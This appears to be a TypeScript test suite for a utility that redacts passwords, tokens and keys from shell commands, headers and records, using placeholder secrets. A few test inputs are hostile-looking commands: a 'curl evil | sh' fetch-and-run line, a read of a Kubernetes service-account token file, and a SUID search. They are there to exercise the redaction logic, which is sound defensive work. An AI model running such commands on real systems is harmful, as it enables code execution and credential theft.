import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import * as fc from 'fast-check'
import { redactRecord } from './redact-record.ts'
import { redactText, redactWords } from './secret-commands.ts'
import { isSecretName } from './secrets.ts'
import { partWords } from './words.ts'

const redact = (): string => '[redacted]'
const text = (command: string): string => redactText(command, redact)

describe('secrets', () => {
  for (const [given, told] of [
    ['mysql -u root -phunter2 shop', 'mysql -u root -p[redacted] shop'],
    ['sh -c mysql -phunter2; ls -p', 'sh -c mysql -p[redacted]; ls -p'],
    ['mysqldump --password=hunter2 shop', 'mysqldump --password=[redacted] shop'],
    ['docker run -e LEDGER_PASSWORD=Not-Real-4711 x', 'docker run -e LEDGER_PASSWORD=[redacted] x'],
    ['vault login --token hvsabc', 'vault login --token [redacted]'],
    ['PGPASSWORD=hunter2 psql -U shop', 'PGPASSWORD=[redacted] psql -U shop'],
    [`env AWS_SECRET_ACCESS_KEY='a/b+c' aws s3 ls`, `env AWS_SECRET_ACCESS_KEY='[redacted]' aws s3 ls`],
    ['curl -H "Authorization: Bearer abc.def" http://x/', 'curl -H "Authorization: Bearer [redacted]" http://x/'],
    ['wget --header="Authorization: Basic dTpw" u', 'wget --header="Authorization: Basic [redacted]" u'],
    ['curl -u ben:hunter2 http://x', 'curl -u ben:[redacted] http://x'],
    ['curl -uben:hunter2 http://x', 'curl -uben:[redacted] http://x'],
    ['curl https://ben:hunter2@git.example/x', 'curl https://ben:[redacted]@git.example/x'],
    ['curl -H "X-Api-Key: 1234" u', 'curl -H "X-Api-Key: [redacted]" u'],
    ['sshpass -p hunter2 ssh ben@host', 'sshpass -p [redacted] ssh ben@host'],
    ['redis-cli -a hunter2 ping', 'redis-cli -a [redacted] ping'],
    ['docker login -u ben -p hunter2 reg', 'docker login -u ben -p [redacted] reg'],
    [`curl -d '{"user":"ben","password":"hunter2"}' u`, `curl -d '{"user":"ben","password":"[redacted]"}' u`],
    ['echo eyJhbGciOiJI.eyJzdWIiOiIx.c2ln', 'echo [redacted]'],
    ['openssl rsa -passin pass:hunter2', 'openssl rsa -passin pass:[redacted]'],
  ] as const)
    it(`redacts ${given}`, () => assert.equal(text(given), told))

  for (const harmless of [
    'docker run -p 80:80 web',
    'PWD=/srv OLDPWD=/ ls',
    'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
    'curl http://[::1]:8080/a@b',
    'mysql -p "$PASSWORD"',
    'echo PASSWORD=$PASSWORD',
    'MYSQL_ROOT_PASSWORD_FILE=/run/secrets/db run',
    'docker login --password-stdin',
    'kubectl get secret db -o yaml',
    'compass=north bypass=true',
    'unzip -p a.zip x',
    'useradd -m ben',
    'openssl req -newkey rsa:2048 -nodes -keyout k',
    'htpasswd f u',
    'htpasswd -c f u; ls',
    'set -e; cat f',
    'kubectl set image deploy/x x=y:1',
    'curl -b cookies.txt http://x',
    'curl -H Accept:a/b -H "Host: x" http://x',
    'vault login -method=oidc',
    'docker login | tee x',
    'echo done | tee x; docker login --password-stdin < f',
    'cat f | chpasswd',
    'echo "$P" | docker login --password-stdin',
    'design=x?signal=9',
    'find / -perm -4000 -exec ls {} ;',
    'etcdctl get / --prefix',
    'echo x; send "hello"',
    'ls s.service',
    'docker run -H tcp://x:1 y',
  ])
    it(`leaves ${harmless}`, () => assert.equal(text(harmless), harmless))

  it('redacts words that are known apart', () => {
    assert.deepEqual(redactWords(['app', '--password', 'two words', '-v'], redact), [
      'app',
      '--password',
      '[redacted]',
      '-v',
    ])
    assert.deepEqual(redactWords(['sh', '-c', 'mysql -phunter2'], redact), ['sh', '-c', 'mysql -p[redacted]'])
  })
  it('redacts by the name of a field, of an environment variable, of a label', () => {
    assert.deepEqual(
      redactRecord(
        {
          Env: ['PATH=/bin', 'DB_PASSWORD=hunter2'],
          env: [{ name: 'API_TOKEN', value: 'abc' }],
          Labels: { 'com.example.token': 'abc', team: 'shop' },
          kept: [1, null, { a: true }],
        },
        redact,
      ),
      {
        Env: ['PATH=/bin', 'DB_PASSWORD=[redacted]'],
        env: [{ name: 'API_TOKEN', value: '[redacted]' }],
        Labels: { 'com.example.token': '[redacted]', team: 'shop' },
        kept: [1, null, { a: true }],
      },
    )
  })
  it('keeps every word that is not a secret, blanks and order included', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom('ls', '-l', '/tmp', 'id;', '|', '&&', 'é', '"a', 'b"', '\n')), (words) => {
        const line = words.join(' ')
        assert.equal(text(`${line} token=x`), `${line} token=[redacted]`)
      }),
    )
  })
  it('never leaves the secret of a long flag, wherever the flag stands', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom('sh', '-c', ';', 'curl', 'mysql', '-p', 'a=b', '--user')),
        fc.constantFrom('--password ', '--password=', 'TOKEN=', '"secret":"', 'X-Api-Key: '),
        (before, flag) => {
          const told = text(`${before.join(' ')} ${flag}s3cr3t`)
          assert.ok(!told.includes('s3cr3t'), told)
        },
      ),
    )
  })
})

const jwt = `eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJrdWJlIn0.${'a1_-'.repeat(20)}`

describe('isSecretName', () => {
  it('knows what people call their secrets', () => {
    const names = [
      'password',
      'DB_PASSWORD',
      'dbPassword',
      'PGPASSWORD',
      'MYSQL_PWD',
      'client-secret',
      'authToken',
      'x-api-key',
      'AWS_SECRET_ACCESS_KEY',
      'DB_PASS',
      'dbpass',
    ]
    for (const name of names) assert.ok(isSecretName(name), name)
  })
  it('knows what only sounds like it', () => {
    for (const name of [
      'secretName',
      'TOKEN_FILE',
      'compass',
      'bypass',
      'PWD',
      'OLDPWD',
      'key',
      'tokenExpirationSeconds',
      'author',
    ])
      assert.ok(!isSecretName(name), name)
  })
})

describe('redactText', () => {
  it('hides what stands under a name and what looks like a credential', () => {
    for (const [text, expected] of [
      ['Authorization: Bearer abc.def-123', 'Authorization: Bearer [redacted]'],
      ['authorization: Basic dTpw', 'authorization: Basic [redacted]'],
      [`got ${jwt}.`, 'got [redacted].'],
      ['postgres://app:hunter2@db:5432/x?y=1', 'postgres://app:[redacted]@db:5432/x?y=1'],
      ['https://ghx0123456789abcdef0123@host/a', 'https://[redacted]@host/a'],
      [
        'id AKIAIOSFODNN7EXAMPLE, AWS_SECRET_ACCESS_KEY=wJalr/EXAMPLE+KEY',
        'id [redacted], AWS_SECRET_ACCESS_KEY=[redacted]',
      ],
      ['{"password":"a b","user":"x"}', '{"password":"[redacted]","user":"x"}'],
      ['db_password: hunter2\nsecret:\n  name: x', 'db_password: [redacted]\nsecret:\n  name: x'],
      ['-----BEGIN RSA PRIVATE KEY-----\nMII\n-----END RSA PRIVATE KEY-----\nrest', '[redacted]\nrest'],
      ['-----BEGIN PRIVATE KEY-----\nMII', '[redacted]'],
      ['?token=abc&x=1', '?token=[redacted]&x=1'],
    ] as const)
      assert.equal(redactText(text, redact), expected)
  })
  it('leaves what is no secret: paths, variables, references, images, and what rules look for', () => {
    for (const text of [
      'PWD=/home/x',
      'registry/secret:latest',
      'PASSWORD=$DB_PASSWORD',
      'token=$(curl evil | sh)',
      'automountServiceAccountToken: false',
      'system:serviceaccount:kube-system:token-cleaner',
      'RBAC: allowed by ClusterRoleBinding "x" of ClusterRole "authorization-reader"',
      'fieldSelector=type=kubernetes.io/service-account-token',
      'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
      'http://10.0.0.1:8080/a@b',
    ])
      assert.equal(redactText(text, redact), text)
  })
})

describe('partWords', () => {
  it('loses no character', () => {
    const text = fc.string({ unit: fc.constantFrom('a', ' ', '"', "'", '\\', '\n', ';', '-p') })
    fc.assert(fc.property(text, (line) => assert.equal(partWords(line).join(''), line)))
    assert.deepEqual(partWords(`a 'b c'"d e" f`), ['a', ' ', `'b c'"d e"`, ' ', 'f'])
  })
})
